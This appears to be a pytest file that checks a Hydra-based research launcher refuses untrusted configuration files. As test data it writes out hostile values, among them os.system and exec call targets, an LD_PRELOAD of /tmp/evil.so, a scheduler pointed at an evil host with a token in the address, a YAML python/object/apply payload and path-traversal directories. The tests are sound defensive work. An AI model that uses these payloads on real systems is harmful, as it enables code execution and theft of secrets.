"""Configurations of somebody else, made of a grammar: flags, package headers, targets and nodes."""

import copy
import random
import re
from collections.abc import Callable, Iterator, Mapping
from itertools import product
from pathlib import Path
from typing import Any

import pytest
import yaml
from omegaconf import OmegaConf

from epsilon_research.catalogue import main_configuration
from epsilon_research.launch.cli import parse
from epsilon_research.launch.errors import USER_ERRORS, user_message
from epsilon_research.launch.foreign import check_origin
from tests.commands import command, error_in, finished

SETTINGS = {
    "name": "toy",
    "seed": 1,
    "executor": {"_target_": "epsilon_research.executors.serial.SerialExecutor"},
    "tracker": {"_target_": "epsilon_research.tracking.none.NoTracker"},
}
FLAGS: Mapping[str, Callable[[Path], list[str]]] = {
    "path": lambda folder: [f"--config-path={folder}"],
    "two words": lambda folder: ["--config-path", str(folder), "--config-name", "config"],
    "short": lambda folder: ["-cp", str(folder), "-cn", "config.yaml"],
    "between settings": lambda folder: [
        "hydra.verbose=true",
        f"--config-path={folder}",
        "hydra.verbose=false",
    ],
    "name": lambda folder: [f"--config-name=../{'../' * 20}{str(folder).lstrip('/')}/config"],
}
HEADERS = ("", "# @package _global_\n", "# a comment\n\n", "# @package hydra\n")
TARGETS = (
    "os.system",
    "builtins.exec",
    "epsilon_research.atomic_file.os.system",
    "epsilon_research.launch.cli.run",
    "hydra.utils.call",
)
CALLED = (  # where something is called that is named there
    ("tracker",),
    ("executor",),
    ("metric", "epsilon", "engine"),
    ("stages", "new"),
    ("hydra", "callbacks", "before"),
    ("hydra", "callbacks", "new"),
    ("hydra", "launcher"),
    ("hydra", "sweeper"),
)
NODES: Mapping[tuple[str, ...], Any] = {
    ("hydra", "callbacks"): {},
    ("hydra", "job_logging", "formatters", "simple", "()"): "os.system",
    ("hydra", "job_logging", "handlers", "file", "filename"): "/tmp/elsewhere",
    ("hydra", "hydra_logging", "handlers", "console", "class"): "os.system",
    ("hydra", "run", "dir"): "/tmp/elsewhere",
    ("hydra", "sweep", "dir"): "../elsewhere",
    ("hydra", "sweep", "subdir"): "../../elsewhere",
    ("hydra", "output_subdir"): "../../elsewhere",
    ("hydra", "job", "chdir"): True,
    ("hydra", "job", "id"): "../../elsewhere",
    ("hydra", "runtime", "output_dir"): "/tmp/elsewhere",
    # What a sweep composes its jobs with.
    ("hydra", "overrides", "hydra"): ["hydra.job_logging.formatters.simple.()=os.system"],
    ("hydra", "overrides", "task"): ["store=/tmp/elsewhere"],
    ("hydra", "sweeper", "params"): {"store": "/tmp/elsewhere,none"},
    ("hydra", "job", "env_set"): {"LD_PRELOAD": "/tmp/evil.so"},
    ("defaults",): ["elsewhere"],
    ("name",): "../../elsewhere",
    ("executor",): {
        "_target_": "epsilon_research.executors.dask_cluster.DaskExecutor",
        "scheduler": "tcp://evil:1",
    },
    ("tracker",): {
        "_target_": "epsilon_research.tracking.wandb.WandbTracker",
        "project": "p",
        "mode": "online",
    },
    ("dataset",): {"_target_": "epsilon_research.data.cifar.Cifar", "num_classes": 10},
    ("benchmark",): {
        "_target_": "epsilon_research.benchmarks.nb101_official.Nb101Official",
        "download": True,
    },
    ("plotting",): {
        "_target_": "epsilon_research.plotting.settings.FigureSettings",
        "style": "https://evil/x.mplstyle",
    },
    ("pipeline", "store"): {"_target_": "epsilon_research.store.open_store", "path": "/tmp/store"},
}


def configuration(place: tuple[str, ...] = (), value: Any = None) -> dict[str, Any]:
    """A harmless configuration, with another value at one place."""
    settings = copy.deepcopy({"hydra": main_configuration()["hydra"], **SETTINGS})
    node: Any = settings
    for key in place[:-1]:
        node = node.setdefault(key, {})
    if place:
        node[place[-1]] = value
    return settings


def text_of(settings: Mapping[str, Any], header: str) -> str:
    inside = settings["hydra"] if "@package hydra" in header else settings
    return header + yaml.safe_dump(inside, sort_keys=False)


def hostile() -> Iterator[tuple[tuple[str, ...], Any]]:
    yield from NODES.items()
    for place, target in product(CALLED, TARGETS):
        yield place, {"_target_": target}


# The last one reads the file as if it belonged to a group, where it has no section `hydra`.
@pytest.mark.parametrize("flag", [*FLAGS][:-1])
def test_a_harmless_configuration_is_accepted(flag: str, tmp_path: Path) -> None:
    (tmp_path / "config.yaml").write_text(text_of(configuration(), ""), encoding="utf-8")
    check_origin(parse(FLAGS[flag](tmp_path)))


@pytest.mark.parametrize(("place", "value"), [*hostile()], ids=str)
def test_a_hostile_configuration_is_refused(
    place: tuple[str, ...], value: Any, tmp_path: Path
) -> None:
    # Every place with every target, each with some other flag and header of the grammar.
    draw = random.Random(f"{place} {value}")
    flag = draw.choice([*FLAGS])
    header = draw.choice(HEADERS if place[0] == "hydra" else HEADERS[:-1])
    text = text_of(configuration(place, value), header)
    (tmp_path / "config.yaml").write_text(text, encoding="utf-8")
    with pytest.raises(ValueError, match=r"must .*, got .*: ") as refused:
        check_origin(parse(FLAGS[flag](tmp_path)))
    assert "EPSILON_TRUSTED" in str(refused.value) or place == ("name",)


@pytest.mark.parametrize(
    "text",
    ["- a list\n", "a: " + "1" * (1 << 20),
     "a: [\n", "a: &a [1]\nb: [*a, *a]\n", "a: " + "[" * 5000,
     "a: !!python/object/apply:os.system [true]\n", "hydra: 3\n", ""],
)  # fmt: skip
def test_what_is_no_configuration_is_refused(text: str, tmp_path: Path) -> None:
    (tmp_path / "config.yaml").write_text(text, encoding="utf-8")
    with pytest.raises(USER_ERRORS) as refused:
        check_origin(parse([f"--config-path={tmp_path}"]))
    assert re.fullmatch(r".* must .*, got .*: .*", user_message(refused.value))


@pytest.mark.parametrize("flag", ["--config-p", "--config-d", "--config-n", "--exp", "--mult"])
def test_an_abbreviated_flag_is_refused(flag: str) -> None:
    with pytest.raises(ValueError, match="flags must be among those of --help, got another"):
        parse([f"{flag}=x"])


@pytest.mark.parametrize("flag", ["config-dir", "experimental-rerun"])
def test_folders_of_options_need_trust(flag: str, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match=f"--{flag} must not be used without trust"):
        check_origin(parse([f"--{flag}={tmp_path}"]))


def test_what_is_typed_or_trusted_counts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    place = ("executor",)
    text = text_of(configuration(place, NODES[place]), "")
    (tmp_path / "config.yaml").write_text(text, encoding="utf-8")
    flag = f"--config-path={tmp_path}"
    for typed in ("executor.scheduler=tcp://mine:1", "executor={scheduler:'tcp://mine:1'}"):
        check_origin(parse([flag, typed]))
    for typed in ("seed=3", "name=mine", "hydra.run.dir=x"):
        with pytest.raises(ValueError, match=r"executor\.scheduler must be typed"):
            check_origin(parse([flag, typed]))
    monkeypatch.setenv("EPSILON_TRUSTED", "epsilon_research")
    check_origin(parse([flag]))


def test_who_types_a_mapping_types_what_is_in_it_and_no_more(tmp_path: Path) -> None:
    place = ("executor",)
    text = text_of(configuration(place, NODES[place]), "")
    (tmp_path / "config.yaml").write_text(text, encoding="utf-8")
    with pytest.raises(ValueError, match=r"executor\.scheduler must be typed"):
        check_origin(parse([f"--config-path={tmp_path}", "++executor={timeout_seconds:3}"]))


@pytest.mark.parametrize("word", ["hydra.searchpath=[file://{}]", "hydra={{searchpath:['{}']}}"])
def test_a_typed_search_path_needs_trust(
    word: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for flags in ([], [f"--config-path={tmp_path}"]):
        with pytest.raises(ValueError, match="searchpath must not be used without trust"):
            check_origin(parse([*flags, word.format(tmp_path)]))
    monkeypatch.setenv("EPSILON_TRUSTED", "epsilon_research")
    check_origin(parse([word.format(tmp_path)]))


def test_options_of_a_foreign_folder_are_not_swept(tmp_path: Path) -> None:
    (tmp_path / "config.yaml").write_text(text_of(configuration(), ""), encoding="utf-8")
    (tmp_path / "looks").mkdir()
    logging = {"formatters": {"simple": {"()": "os.system"}}}
    for name, content in (("harmless", "name: other\n"), ("evil", yaml.safe_dump(logging))):
        header = "# @package " + ("_global_" if name == "harmless" else "hydra.job_logging")
        (tmp_path / "looks" / f"{name}.yaml").write_text(f"{header}\n{content}", encoding="utf-8")
    flag = f"--config-path={tmp_path}"
    check_origin(parse([flag, "+looks=harmless"]))
    with pytest.raises(ValueError, match=r"hydra\.job_logging.* must be the project's own"):
        check_origin(parse([flag, "+looks=evil"]))
    with pytest.raises(ValueError, match="must be chosen one at a time"):
        check_origin(parse([flag, "-m", "+looks=harmless,evil"]))


def test_a_job_is_refused_whose_swept_value_chooses_a_connection(tmp_path: Path) -> None:
    place = ("executor",)
    theirs = {**NODES[place], "scheduler": "${files.${name}}"}
    settings = configuration(place, theirs) | {
        "name": "cifar100_images",
        "files": {"cifar100_images": None, "nbnlp_logs": "tcp://evil:1"},
    }
    (tmp_path / "config.yaml").write_text(text_of(settings, ""), encoding="utf-8")
    check = check_origin(
        parse([f"--config-path={tmp_path}", "-m", "name=cifar100_images,nbnlp_logs"])
    )
    jobs = [OmegaConf.create(settings | {"name": name}) for name in settings["files"]]
    for job in jobs:
        del job["hydra"]
    check(jobs[0])
    with pytest.raises(ValueError, match=r"executor\.scheduler must be typed"):
        check(jobs[1])


@pytest.mark.parametrize(
    "value",
    [
        r"\${oc.create:{_target_:os.system}}",
        r"\\\${oc.env:WANDB_\${oc.env:NAME}}",
        {"_target_": "epsilon_research.tracking.csv.CsvTracker", "_args_": ["evil"]},
    ],
)
def test_what_would_be_something_else_when_it_is_built_is_refused(
    value: Any, tmp_path: Path
) -> None:
    (tmp_path / "config.yaml").write_text(
        text_of(configuration(("tracker",), value), ""), encoding="utf-8"
    )
    with pytest.raises(ValueError, match=r"must hold no reference|must have a name"):
        check_origin(parse([f"--config-path={tmp_path}"]))


def test_no_refusal_tells_a_secret(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("THEIR_TOKEN", "0123456789abcdef")
    theirs = {**NODES["executor",], "scheduler": "tcp://evil/${oc.env:THEIR_TOKEN}"}
    text = text_of(configuration(("executor",), theirs), "")
    (tmp_path / "config.yaml").write_text(text, encoding="utf-8")
    with pytest.raises(ValueError, match="settings must not hold secrets") as refused:
        check_origin(parse([f"--config-path={tmp_path}"]))
    assert "0123456789abcdef" not in str(refused.value)


def test_a_typed_folder_is_the_users(tmp_path: Path) -> None:
    (tmp_path / "config.yaml").write_text(text_of(configuration(), ""), encoding="utf-8")
    check_origin(parse([f"--config-path={tmp_path}", "hydra.run.dir=/tmp/mine"]))


def test_a_search_path_in_a_file_is_not_followed(tmp_path: Path) -> None:
    place = ("hydra", "searchpath")
    text = text_of(configuration(place, ["pkg://no_such_package"]), "")
    (tmp_path / "config.yaml").write_text(text, encoding="utf-8")
    arguments = parse([f"--config-path={tmp_path}"])
    check_origin(arguments)
    assert "hydra.searchpath=[]" in arguments.overrides
    own = parse([f"--config-path={tmp_path}", "hydra.searchpath=[]"])
    check_origin(own)
    assert own.overrides == ["hydra.searchpath=[]"]


def test_a_hostile_configuration_runs_nothing(tmp_path: Path) -> None:
    mark = tmp_path / "executed"
    touch = {
        "_target_": "pathlib.Path.touch",
        "self": {"_target_": "pathlib.Path", "_args_": [str(mark)]},
    }
    for place in (("executor",), ("hydra", "callbacks", "x")):
        (tmp_path / "config.yaml").write_text(text_of(configuration(place, touch), ""))
        process = finished(*command(f"--config-path={tmp_path}"), folder=tmp_path)
        assert process.returncode == 1
        assert "must" in error_in(process.stderr)
        assert sorted(path.name for path in tmp_path.iterdir()) == ["config.yaml"]
